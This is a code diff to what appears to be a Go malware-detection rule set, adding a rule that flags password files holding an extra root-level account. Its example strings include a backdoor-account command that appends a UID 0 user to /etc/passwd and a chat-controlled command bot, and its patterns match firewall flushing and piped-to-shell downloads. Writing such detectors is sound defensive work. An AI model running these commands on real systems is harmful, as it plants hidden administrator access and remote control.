@@ -2,6 +2,12 @@
 
 package content
 
+import (
+	"slices"
+
+	"ftplab/lab/analysis/internal/pattern"
+)
+
 const (
 	atBots    = "MITRE ATT&CK, T1071 (IRC bots) and T1498 (network denial of service)"
 	atImages  = "MITRE ATT&CK, T1542.001 (system firmware)"
@@ -15,6 +21,17 @@ const (
 	// moreGuests is a command that removes the rules of a firewall, or fetches a program.
 	moreGuests = `(\biptables +(-t +\w+ +)?(-f|--flush)\b|\biptables[^\n]*-i input[^\n]*-j accept|` + pipedToShell + `)`
 )
+
+// rootAccounts matches accounts with the number of root and a password in the same file. Systems give root, its twin of BSD
+// and the users of devices such a number.
+var (
+	rootAccounts = pattern.New(`(?m)^([\w.-]+):\$[^:\s]+:0:\d+:[^:\n]*:/[^:\n]*:`)
+	ownRoots     = map[string]bool{"root": true, "toor": true, "admin": true}
+)
+
+func otherRoot(t *passage) bool {
+	return slices.ContainsFunc(rootAccounts.FindAllSubmatch(t.text, -1), func(m [][]byte) bool { return !ownRoots[string(m[1])] })
+}
 
 // implants are such programs and scripts.
 var implants = []plant{
@@ -67,6 +84,9 @@ var implants = []plant{
 	{what: "a script that makes another administrator", kind: Malicious, fetched: true, where: anywhere, source: "MITRE ATT&CK, T1136.001 (local account)",
 		example: "echo 'r00t::0:0::/root:/bin/sh' >> /etc/passwd\n",
 		parts:   []part{like(`\b(echo|printf)\b[^\n]*:0:0:[^\n]*>> *\S*/etc/passwd|\buser(add|mod)\b[^\n]*( -o[^\n]* -u *0| -u *0[^\n]* -o| -ou *0)\b`, "/etc/passwd", "useradd", "usermod")}},
+	{what: "the accounts of a server, one of which is another administrator with a password of its own", kind: Malicious, source: "MITRE ATT&CK, T1136 (create account)",
+		example: "ada:$1$x$y:1000:1000::/home/ada:/bin/sh\nhelp:$1$x$y:0:0::/:/bin/sh\n",
+		parts:   []part{{[]string{":0:"}, otherRoot}}},
 	{what: "a bot that takes orders from a chat", kind: LikelyMalicious, fetched: true, source: atBots,
 		example: "import requests, subprocess\nu=requests.get('https://api.telegram.org/bot'+T+'/getUpdates').json()\nsubprocess.check_output(c, shell=True)\n",
 		parts:   []part{marked("api.telegram.org/bot", "telebot.", "discord.client", "discord.ext", "commands.bot("), like(`\bos\.popen\s*\(|\bos\.system\s*\(|shell\s*=\s*true`, "popen", "system", "shell")}},
